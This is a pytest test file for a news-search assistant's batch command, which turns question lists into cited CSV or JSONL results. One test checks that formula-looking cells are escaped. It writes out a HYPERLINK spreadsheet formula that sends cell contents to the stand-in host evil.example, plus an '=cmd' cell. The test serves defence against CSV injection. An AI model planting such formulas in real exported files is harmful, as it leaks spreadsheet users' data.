"""`assistant batch` and `Assistant.batch`: questions from .txt and .csv files, hits with citations to CSV and JSONL."""

import csv
import json

import pytest

from assistant.batch import FIELDS, BatchReport, read_questions, records, run_batch, to_csv, write_results
from assistant.types import AssistantError

from .conftest import cli

ZELENSKY = "What did Zelensky say to Russians?"
LAVROV = "What did Lavrov accuse Ukraine of?"
TOO_LONG = "Zelensky " * 250 + "?"  # 2,251 characters: over the 2,000 limit


def _csv_rows(path):
    with open(path, newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames) == FIELDS
        return list(reader)


def test_a_txt_file_skips_blank_and_comment_lines(tmp_path):
    path = tmp_path / "names.txt"
    path.write_text(f"# names to check\n{ZELENSKY}\n\n   \n  # another comment\n{LAVROV}  \n", encoding="utf-8")
    assert read_questions(path) == [("names.txt line 2", ZELENSKY), ("names.txt line 6", LAVROV)]


def test_a_csv_file_gives_its_question_column_or_the_one_named_or_the_first(tmp_path):
    path = tmp_path / "list.csv"
    path.write_text('id,question,note\n1,"Who said ""no""?",x\n2,,y\n\n3,Where is Kyiv?,z\n', encoding="utf-8")
    assert read_questions(path) == [
        ("list.csv line 2", 'Who said "no"?'),
        ("list.csv line 3", ""),  # empty: reported when searched, not silently dropped
        ("list.csv line 5", "Where is Kyiv?"),
    ]
    assert [q for _, q in read_questions(path, column="note")] == ["x", "y", "z"]
    names = tmp_path / "names.csv"
    names.write_text("\ufeffname;role\nZelensky;president\nLavrov;minister\n", encoding="utf-8")  # Excel: BOM, ';'
    assert [q for _, q in read_questions(names)] == ["Zelensky", "Lavrov"]


@pytest.mark.parametrize(
    ("name", "content", "column", "message"),
    [
        ("q.xlsx", "x", None, "q.xlsx: questions are read from a .txt file (one a line) or a .csv file"),
        ("q.csv", "id,name\n1,Kyiv\n", "who", "q.csv has no column 'who' (it has: id, name); name one with --column"),
        ("q.txt", "Kyiv\n", "name", "--column is for a .csv file, and {dir}/q.txt is a .txt file; drop --column"),
        ("q.txt", "# only a comment\n\n", None, "q.txt holds no questions"),
    ],
)
def test_a_bad_question_file_is_one_line_naming_it(tmp_path, name, content, column, message):
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    with pytest.raises(AssistantError) as e:
        read_questions(path, column)
    assert str(e.value).endswith(message.format(dir=tmp_path)) and "\n" not in str(e.value)


def test_a_file_that_is_not_utf8_says_how_to_save_it(tmp_path):
    path = tmp_path / "q.csv"
    path.write_bytes("question\nWho is Zelens\xe9kyi?\n".encode("latin-1"))
    with pytest.raises(AssistantError, match="q.csv is not UTF-8 text; save it as UTF-8"):
        read_questions(path)


def test_txt_to_csv_with_a_bad_question_among_good_ones(fake_assistant, tmp_path):
    questions = tmp_path / "questions.txt"
    questions.write_text(f"{ZELENSKY}\n{TOO_LONG}\n{LAVROV}\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    report = run_batch(fake_assistant, questions, out, k=3)
    assert report.skipped == ["questions.txt line 2: the question is 2,251 characters long; the limit is 2,000"]
    rows = _csv_rows(out)
    assert [r["question"] for r in rows] == [ZELENSKY] * 3 + [LAVROV] * 3
    assert [r["rank"] for r in rows] == ["1", "2", "3"] * 2
    assert report.rows == 6 and report.questions == 3
    expected = fake_assistant.search(ZELENSKY, k=3)
    for row, hit in zip(rows, expected, strict=False):
        c = hit.citations[0]
        assert row["text"] == hit.text and row["article_id"] == c.article_id and row["title"] == c.title
        assert (int(row["char_start"]), int(row["char_end"])) == (c.char_start, c.char_end)
        assert fake_assistant.article_text(c.article_id)[c.char_start : c.char_end] == row["text"]
        assert float(row["score"]) == round(hit.score, 4) and row["path"].endswith(c.article_id)
    assert report.summary(out) == f"Wrote 6 passage(s) for 2 question(s) to {out} (1 skipped)"


def test_csv_to_jsonl_with_an_empty_cell_and_a_url(fake_assistant, tmp_path):
    wire = tmp_path / "wire.jsonl"
    record = {"id": "wire-1", "title": "Harbour ferry strike", "text": "The harbour ferry crews went on strike today.",
              "source": "Wire", "published": "2022-09-21", "url": "https://example.org/ferry"}  # fmt: skip
    wire.write_text(json.dumps(record) + "\n", encoding="utf-8")
    fake_assistant.add([wire])
    questions = tmp_path / "questions.csv"
    questions.write_text("topic,question\nferry,Why did the ferry crews strike?\nnone,\n", encoding="utf-8")
    out = tmp_path / "results.jsonl"
    report = run_batch(fake_assistant, questions, out, k=2)
    assert report.skipped == ["questions.csv line 3: the question is empty"]
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 2 and all(tuple(r) == FIELDS for r in rows)
    first = rows[0]
    assert first["question"] == "Why did the ferry crews strike?" and first["rank"] == 1
    assert (first["article_id"], first["url"], first["source"]) == ("wire-1", "https://example.org/ferry", "Wire")
    assert first["published"] == "2022-09-21" and first["text"] == record["text"]


def test_a_formula_looking_cell_is_written_as_text(fake_assistant, tmp_path):
    questions = tmp_path / "questions.txt"
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Zelensky")'
    questions.write_text(f"{formula}\n@Zelensky Russians\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    run_batch(fake_assistant, questions, out, k=1)
    rows = _csv_rows(out)
    assert [r["question"] for r in rows] == ["'" + formula, "'@Zelensky Russians"]
    made = to_csv([{"title": "+1 for peace", "source": "-Reuters", "text": "\t=cmd", "score": -0.5, "rank": 1}])
    row = next(csv.DictReader(made.splitlines()))
    assert (row["title"], row["source"], row["text"]) == ("'+1 for peace", "'-Reuters", "'\t=cmd")
    assert row["score"] == "-0.5"  # a number is a number, not a formula


def test_an_interrupted_batch_leaves_the_file_that_was_there(fake_assistant, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "results.csv"
    out.write_text("the good results of yesterday\n", encoding="utf-8")

    def questions():
        yield ZELENSKY
        yield LAVROV
        raise KeyboardInterrupt  # Ctrl-C in the middle of the batch

    with pytest.raises(KeyboardInterrupt):
        write_results(records(fake_assistant.batch(questions(), k=3), BatchReport()), out)
    assert out.read_text(encoding="utf-8") == "the good results of yesterday\n"
    assert sorted(p.name for p in folder.iterdir()) == ["results.csv"]  # no temporary file left either


def test_the_python_api_gives_each_question_its_hits_or_its_error(fake_assistant):
    asked = list(fake_assistant.batch([ZELENSKY, "", "bad\x00question"], k=2))
    assert asked[0].question == ZELENSKY and len(asked[0].hits) == 2 and not asked[0].error
    assert asked[0].hits == tuple(fake_assistant.search(ZELENSKY, k=2))
    assert [a.error for a in asked[1:]] == [
        "the question is empty",
        "the question holds control characters (binary data?); send plain text",
    ]
    with pytest.raises(AssistantError, match="unknown filter 'colour'"):
        list(fake_assistant.batch([ZELENSKY], filters={"colour": "red"}))


@pytest.mark.integration
def test_cli_batch_with_the_real_model_puts_zelenskys_words_first(real_index, tmp_path):
    questions = tmp_path / "questions.txt"
    questions.write_text(f"# from the desk\n{ZELENSKY}\n{TOO_LONG}\n{LAVROV}\n", encoding="utf-8")
    out = tmp_path / "results.csv"
    out.write_text("old\n", encoding="utf-8")
    done = cli("batch", questions, "--out", out, "--k", "3", "--index-dir", real_index)
    assert done.returncode == 3, done.stderr
    assert "skipped: questions.txt line 3: the question is 2,251 characters long; the limit is 2,000" in done.stderr
    assert done.stdout.strip() == f"Wrote 6 passage(s) for 2 question(s) to {out} (1 skipped)"
    rows = _csv_rows(out)
    first = rows[0]
    assert first["question"] == ZELENSKY and first["rank"] == "1" and "You are already complicit" in first["text"]
    assert first["article_id"] == "003_84ced491e06fab4c.txt" and first["confidence"] == "strong"
    assert first["title"].startswith("Volodymyr Zelensky calls on Russians")
    jsonl = tmp_path / "results.jsonl"
    done = cli("batch", questions, "--out", jsonl, "--k", "1", "--index-dir", real_index, "--quiet")
    assert done.returncode == 3 and "questions:" not in done.stderr  # --quiet: no progress bar
    lines = [json.loads(line) for line in jsonl.read_text(encoding="utf-8").splitlines()]
    assert [(r["question"], r["text"]) for r in lines[:1]] == [(ZELENSKY, first["text"])]


@pytest.mark.integration
def test_cli_batch_refuses_a_results_file_it_cannot_write_before_searching(real_index, tmp_path):
    questions = tmp_path / "questions.txt"
    questions.write_text(f"{ZELENSKY}\n", encoding="utf-8")
    done = cli("batch", questions, "--out", tmp_path / "results.xlsx", "--index-dir", real_index)
    assert done.returncode == 1
    assert done.stderr.strip() == (
        f"error: --out {tmp_path}/results.xlsx: results are written as .csv or .jsonl; name the file so"
    )
    done = cli("batch", questions, "--out", tmp_path / "nowhere" / "r.csv", "--index-dir", real_index)
    assert done.returncode == 1 and done.stderr.strip().endswith(
        f"the folder {tmp_path}/nowhere does not exist; create it or pick another"
    )
